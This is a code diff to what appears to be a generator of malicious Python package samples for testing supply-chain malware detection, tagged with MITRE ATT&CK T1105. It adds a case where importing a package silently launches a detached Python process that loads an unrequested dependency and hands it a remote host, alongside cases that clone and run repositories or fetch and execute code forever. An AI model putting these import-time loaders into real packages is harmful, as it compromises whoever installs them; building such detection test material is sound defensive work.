@@ -1,3 +1,4 @@
+import { techniques } from './drafts.ts';
 import { fillerModule } from './filler.ts';
 import type { Draft, Remote, Replay } from './incident.ts';
 import { browserDriver, gitWrapper, pluginInstaller } from './look-alikes/downloads.ts';
@@ -144,21 +145,25 @@ const dashC = (c: Remote): Draft => {
   return { ...draft, files: { ...draft.files, 'unitfmt/_service.py': SERVICE(c) } };
 };
 
-const at = (
-  id: string,
-  title: string,
-  runs: string,
-  draft: Replay['draft'],
-  lookAlikes: Replay['lookAlikes'] = () => [],
-): Replay => ({
-  id,
-  title,
-  source: 'https://attack.mitre.org/techniques/T1105/',
-  runs,
-  remote: REMOTE,
-  draft,
-  lookAlikes,
+/** The code to run is in a distribution that this one requires. */
+const dependency = (c: Remote): Draft => ({
+  ...spelled(
+    () => py`
+import subprocess
+import sys
+
+subprocess.Popen(
+    [sys.executable, "-c", "import unit_runtime; unit_runtime.start('${c.host}')"],
+    stdout=subprocess.DEVNULL,
+    stderr=subprocess.DEVNULL,
+    start_new_session=True,
+)
+`,
+  )(c),
+  wheel: { metadata: { 'Requires-Dist': ['unit-runtime>=0.1'] } },
 });
+
+const at = techniques('https://attack.mitre.org/techniques/T1105/', REMOTE);
 
 export const NETWORK_EXEC: readonly Replay[] = [
   at(
@@ -166,7 +171,7 @@ export const NETWORK_EXEC: readonly Replay[] = [
     'git clone to a hidden folder, then Python on it',
     'import clones a repository of a constant host into the temporary folder and runs its main.py',
     spelled(GIT),
-    () => [gitWrapper()],
+    { lookAlikes: () => [gitWrapper()] },
   ),
   at(
     '31b-gitpython',
@@ -179,14 +184,20 @@ export const NETWORK_EXEC: readonly Replay[] = [
     'pip install from another index, then import',
     'import installs a second distribution from an index of its own and calls it',
     spelled(PIP),
-    () => [pluginInstaller()],
+    { lookAlikes: () => [pluginInstaller()] },
   ),
   at(
     '31d-python-c-own-module',
     'python -c imports a module of its own that loops on fetch and exec',
     'import starts Python with -c, which imports a module of the wheel that fetches and executes code for ever',
     dashC,
-    () => [browserDriver()],
+    { lookAlikes: () => [browserDriver()] },
+  ),
+  at(
+    '31e-python-c-dependency',
+    'python -c imports a module of a dependency, in the background',
+    'import starts a detached Python that imports a dependency nobody asked for and hands it a host',
+    dependency,
   ),
 ];
 
